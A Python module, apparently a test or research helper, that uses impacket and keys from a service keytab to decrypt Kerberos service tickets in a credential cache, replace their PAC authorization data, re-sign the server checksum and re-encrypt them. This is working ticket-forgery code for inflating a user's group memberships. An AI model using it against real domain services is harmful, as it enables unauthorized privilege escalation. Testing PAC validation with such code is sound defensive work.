# SPDX-License-Identifier: GPL-3.0-or-later
"""
Tickets whose PAC says more than the domain controller did: made by somebody
who can write into a ticket, by which the signature over the PAC is all that
stands between a user and Domain Admins.
"""

import struct

from impacket.krb5 import crypto
from impacket.krb5.asn1 import AD_IF_RELEVANT, EncTicketPart, Ticket
from impacket.krb5.ccache import CCache
from impacket.krb5.keytab import Keytab
from pyasn1.codec.der import decoder, encoder

AD_IF_RELEVANT_TYPE, AD_WIN2K_PAC = 1, 128
TICKET_KEY_USAGE = 2
# [MS-PAC] 2.4 and 2.8
SERVER_CHECKSUM, KDC_CHECKSUM, CHECKSUM_KEY_USAGE = 6, 7, 17


def service_keys(keytab):
    """The keys of a keytab, by encryption type and version."""
    keys = {}
    for entry in Keytab.loadFile(keytab).entries:
        block = entry.main_part["keyblock"]
        keys[block["keytype"], entry.kvno] = crypto.Key(
            block["keytype"], bytes(block["keyvalue"]["data"]))
    return keys


def sign(pac, keys):
    """The PAC with a server signature of one who has the host's keys."""
    (count,) = struct.unpack_from("<L", pac)
    buffers = {kind: (size, offset) for kind, size, offset in
               struct.iter_unpack("<LLQ", pac[8:8 + 16 * count])}
    signed = bytearray(pac)
    for kind in SERVER_CHECKSUM, KDC_CHECKSUM:
        size, offset = buffers[kind]
        signed[offset + 4:offset + size] = bytes(size - 4)
    size, offset = buffers[SERVER_CHECKSUM]
    (checksum,) = struct.unpack_from("<L", pac, offset)
    assert checksum == 16   # HMAC-SHA1-96 with AES-256
    (key,) = [key for (kind, _), key in keys.items() if kind == 18]
    signature = crypto._SHA1AES256.checksum(key, CHECKSUM_KEY_USAGE,
                                            bytes(signed))
    signed[offset + 4:offset + 4 + len(signature)] = signature
    return bytes(signed)


def rewrite(cache, output, keys, change):
    """
    A copy of a credential cache with the one ticket of the keys' owner opened,
    its PAC replaced by the PACs of change(PAC), and closed again.
    """
    ccache = CCache.loadFile(cache)
    changed = 0
    for credential in ccache.credentials:
        ticket = decoder.decode(credential.ticket["data"],
                                asn1Spec=Ticket())[0]
        sealed = ticket["enc-part"]
        key = keys.get((int(sealed["etype"]), int(sealed["kvno"])))
        if key is None or str(ticket["sname"]["name-string"][0]) == "krbtgt":
            continue
        cipher = crypto._enctype_table[key.enctype]
        plain = decoder.decode(
            cipher.decrypt(key, TICKET_KEY_USAGE, bytes(sealed["cipher"])),
            asn1Spec=EncTicketPart())[0]
        changed += _change_pac(plain["authorization-data"], change)
        sealed["cipher"] = cipher.encrypt(key, TICKET_KEY_USAGE,
                                          encoder.encode(plain), None)
        data = encoder.encode(ticket)
        credential.ticket["length"] = len(data)
        credential.ticket["data"] = data
    assert changed == 1
    ccache.saveFile(output)


def _change_pac(elements, change):
    changed = 0
    for element in elements:
        if int(element["ad-type"]) != AD_IF_RELEVANT_TYPE:
            continue
        old = decoder.decode(bytes(element["ad-data"]),
                             asn1Spec=AD_IF_RELEVANT())[0]
        new = AD_IF_RELEVANT()
        for entry in old:
            kind, values = int(entry["ad-type"]), [bytes(entry["ad-data"])]
            if kind == AD_WIN2K_PAC:
                values = change(values[0])
                changed += 1
            for value in values:
                position = len(new)
                new[position]["ad-type"] = kind
                new[position]["ad-data"] = value
        element["ad-data"] = encoder.encode(new)
    return changed
